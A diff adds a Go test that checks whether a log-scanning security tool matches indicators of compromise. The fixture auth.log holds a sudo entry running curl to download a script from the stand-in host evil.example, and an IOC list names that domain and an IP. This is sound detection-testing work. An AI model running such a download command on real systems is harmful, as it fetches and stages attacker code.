@@ -80,3 +80,20 @@ func TestLogsSigma(t *testing.T) {
 		t.Errorf("a missing --sigma directory: exit %d", r.code)
 	}
 }
+
+func TestLogsIOC(t *testing.T) {
+	root := testutil.RootFromString(t, minimalRoot+"-- var/log/auth.log --\n"+bruteForceAuth()+
+		"Mar  1 09:09:00 web1 sudo:     root : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/curl -o /tmp/x http://evil.example/x.sh\n")
+	list := writeFile(t, "iocs.txt", "# test list\n203.0.113.9\nevil.example\n")
+	r := vigil(t, "logs", "--root", root, "--no-store", "-f", "json", "--ioc", list)
+	res := decode[model.Result](t, r)
+	got := map[string]bool{}
+	for _, f := range res.Findings {
+		if f.RuleID == "logs.ioc.match" {
+			got[f.Subject] = f.Evidence.Extra["ioc_list"] != "" && f.Evidence.Extra["ioc_line"] != ""
+		}
+	}
+	if !got["ip 203.0.113.9"] || !got["domain evil.example"] {
+		t.Errorf("ioc matches: %v\n%s", got, r.out)
+	}
+}
